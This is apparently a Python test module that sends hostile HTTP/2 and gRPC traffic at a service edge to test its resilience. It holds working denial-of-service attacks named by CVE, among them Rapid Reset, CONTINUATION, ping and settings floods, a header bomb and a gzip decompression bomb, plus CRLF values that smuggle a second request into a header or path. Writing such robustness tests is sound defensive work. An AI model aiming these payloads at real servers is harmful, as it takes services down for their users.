"""What breaks HTTP/2 or wears a server out with it, by the names under which it became known where it has one."""

from __future__ import annotations

import gzip
import struct
from collections.abc import Awaitable, Callable
from typing import Final

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.service.edge.hostile.frames import GET, GRPC, PREFACE, Http2

MANY: Final = 20_000
CANCEL: Final = 8
Attack = Callable[[Http2], Awaitable[None]]


async def rapid_reset(connection: Http2) -> None:
    """CVE-2023-44487: begun and taken back at once, so that the limit of streams never counts."""
    for stream in range(1, 2 * 5000, 2):
        await connection.send(connection.asked(stream), RstStreamFrame(stream, error_code=CANCEL))


async def streams_without_end(connection: Http2) -> None:
    for stream in range(1, 2 * 2000, 2):
        await connection.send(connection.asked(stream, GRPC, "END_HEADERS"))


async def continuation_flood(connection: Http2) -> None:
    """CVE-2024-27316 and its like: headers that never end."""
    await connection.send(connection.asked(1, GET, "END_STREAM"))
    more = ContinuationFrame(1, connection.encoder.encode([("x-more", "a" * 8000)], huffman=False))
    for _ in range(200):
        await connection.send(*[more] * 10)


async def header_bomb(connection: Http2) -> None:
    """CVE-2016-6581: a header of some kilobytes, once, and then by its number of one byte."""
    block = connection.encoder.encode([*GET, ("x-bomb", "b" * 3900)]) + b"\xbe" * 16_000
    await connection.send(HeadersFrame(1, block[:16_000], flags=["END_STREAM"]))
    await connection.send(ContinuationFrame(1, block[16_000:], flags=["END_HEADERS"]))


async def large_headers(connection: Http2) -> None:
    parts = [connection.encoder.encode([*(GET if not n else ()), (f"x-{n}", "a" * 9000)]) for n in range(12)]
    await connection.send(HeadersFrame(1, parts[0], flags=["END_STREAM"]))
    await connection.send(
        *(ContinuationFrame(1, part) for part in parts[1:]), ContinuationFrame(1, b"", flags=["END_HEADERS"])
    )


async def ping_flood(connection: Http2) -> None:
    """CVE-2019-9512."""
    for _ in range(MANY // 100):
        await connection.send(*[PingFrame(0, b"12345678")] * 500)


async def settings_flood(connection: Http2) -> None:
    """CVE-2019-9515."""
    for _ in range(MANY // 100):
        await connection.send(*[SettingsFrame()] * 500)


async def empty_frames_flood(connection: Http2) -> None:
    """CVE-2019-9518."""
    await connection.send(connection.asked(1, GRPC, "END_HEADERS"))
    for _ in range(MANY // 100):
        await connection.send(*[DataFrame(1)] * 100)


async def priority_flood(connection: Http2) -> None:
    """CVE-2019-9513."""
    for _ in range(MANY // 100):
        await connection.send(*[PriorityFrame(1, depends_on=0, stream_weight=1)] * 500)


async def window_update_flood(connection: Http2) -> None:
    await connection.send(connection.asked(1, GRPC, "END_HEADERS"))
    for _ in range(MANY // 100):
        await connection.send(*[WindowUpdateFrame(1, window_increment=1)] * 500)


async def window_overflow(connection: Http2) -> None:
    await connection.send(*[WindowUpdateFrame(0, window_increment=0x7FFFFFFF)] * 2)


async def large_frame(connection: Http2) -> None:
    await connection.send(connection.asked(1, GRPC, "END_HEADERS"), DataFrame(1, bytes(1 << 20)))


async def headers_on_no_stream(connection: Http2) -> None:
    headers = connection.asked(1).serialize()
    await connection.send(headers[:5] + bytes(4) + headers[9:])


async def a_servers_stream(connection: Http2) -> None:
    await connection.send(connection.asked(2))


async def data_before_headers(connection: Http2) -> None:
    await connection.send(DataFrame(1, b"data"))


async def headers_of_no_compression(connection: Http2) -> None:
    await connection.send(HeadersFrame(1, b"\xff" * 100, flags=["END_HEADERS", "END_STREAM"]))


async def frames_within_headers(connection: Http2) -> None:
    await connection.send(connection.asked(1, GET, "END_STREAM"), PingFrame(0, b"12345678"))


async def a_push(connection: Http2) -> None:
    await connection.send(PushPromiseFrame(1, promised_stream_id=2, data=b"", flags=["END_HEADERS"]))


async def half_a_frame(connection: Http2) -> None:
    await connection.send(PREFACE, struct.pack("!I", 0xFFFFFF00) + b"\xff" * 1000)


async def _asking(connection: Http2, *headers: tuple[str, str]) -> None:
    await connection.send(connection.asked(1, headers))


async def capital_letters(connection: Http2) -> None:
    await _asking(connection, *GET, ("X-Capital", "a"))


async def no_path(connection: Http2) -> None:
    await _asking(connection, *GET[:3])


async def two_paths(connection: Http2) -> None:
    await _asking(connection, *GET, (":path", "/v1/mesh"))


async def path_after_headers(connection: Http2) -> None:
    await _asking(connection, *GET[:3], ("x-other", "a"), GET[3])


async def chunked(connection: Http2) -> None:
    await _asking(connection, *GET, ("transfer-encoding", "chunked"))


async def upgrade(connection: Http2) -> None:
    await _asking(connection, *GET, ("connection", "upgrade"), ("upgrade", "websocket"))


async def a_line_break_in_a_header(connection: Http2) -> None:
    """Two requests, where HTTP/2 is made HTTP/1.1."""
    await _asking(connection, *GET, ("x-other", "a\r\n\r\nGET /v1/mesh HTTP/1.1\r\nhost: b"))


async def a_line_break_in_the_path(connection: Http2) -> None:
    await _asking(connection, *GET[:3], (":path", "/v1/jwks HTTP/1.1\r\nx: a"))


async def a_null_byte_in_a_header(connection: Http2) -> None:
    await _asking(connection, *GET, ("x-null", "a\0b"))


async def less_than_said(connection: Http2) -> None:
    await connection.send(connection.asked(1, (*GRPC, ("content-length", "100")), "END_HEADERS"))
    await connection.send(DataFrame(1, b"\0\0\0\0\0", flags=["END_STREAM"]))


async def _grpc(connection: Http2, body: bytes, *headers: tuple[str, str]) -> None:
    await connection.send(connection.asked(1, (*GRPC, *headers), "END_HEADERS"))
    pieces = [body[at : at + 16_000] for at in range(0, len(body), 16_000)] or [b""]
    await connection.send(*(DataFrame(1, piece) for piece in pieces), DataFrame(1, flags=["END_STREAM"]))


async def grpc_garbage(connection: Http2) -> None:
    await _grpc(connection, b"\xff" * 100)


async def grpc_without_a_message(connection: Http2) -> None:
    await _grpc(connection, b"")


async def grpc_message_that_breaks_off(connection: Http2) -> None:
    await _grpc(connection, struct.pack("!BI", 0, 1000) + b"\x0a")


async def grpc_message_of_4_gib(connection: Http2) -> None:
    await _grpc(connection, struct.pack("!BI", 0, 0xFFFFFFFF) + b"\x0a")


async def grpc_compressed_by_nothing(connection: Http2) -> None:
    await _grpc(connection, struct.pack("!BI", 1, 4) + b"\x0a\x02ab")


async def grpc_compressed_by_the_unknown(connection: Http2) -> None:
    await _grpc(connection, struct.pack("!BI", 1, 4) + b"\x0a\x02ab", ("grpc-encoding", "zip-bomb"))


async def grpc_bomb(connection: Http2) -> None:
    """Some kilobytes that become 32 MiB."""
    bomb = gzip.compress(bytes(32 << 20), 9)
    await _grpc(connection, struct.pack("!BI", 1, len(bomb)) + bomb, ("grpc-encoding", "gzip"))


async def grpc_two_messages(connection: Http2) -> None:
    await _grpc(connection, (struct.pack("!BI", 0, 2) + b"\x0a\0") * 2)


async def grpc_timeout_that_is_none(connection: Http2) -> None:
    await _grpc(connection, struct.pack("!BI", 0, 2) + b"\x0a\0", ("grpc-timeout", "soon"))


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        *(rapid_reset, streams_without_end, continuation_flood, header_bomb, large_headers, ping_flood, settings_flood),
        *(empty_frames_flood, priority_flood, window_update_flood, window_overflow, large_frame, headers_on_no_stream),
        *(
            a_servers_stream,
            data_before_headers,
            headers_of_no_compression,
            frames_within_headers,
            a_push,
            half_a_frame,
        ),
        *(capital_letters, no_path, two_paths, path_after_headers, chunked, upgrade, a_line_break_in_a_header),
        *(a_line_break_in_the_path, a_null_byte_in_a_header, less_than_said, grpc_garbage, grpc_without_a_message),
        *(grpc_message_that_breaks_off, grpc_message_of_4_gib, grpc_compressed_by_nothing),
        *(grpc_compressed_by_the_unknown, grpc_bomb, grpc_two_messages, grpc_timeout_that_is_none),
    )
}
"""Each on a connection of its own."""
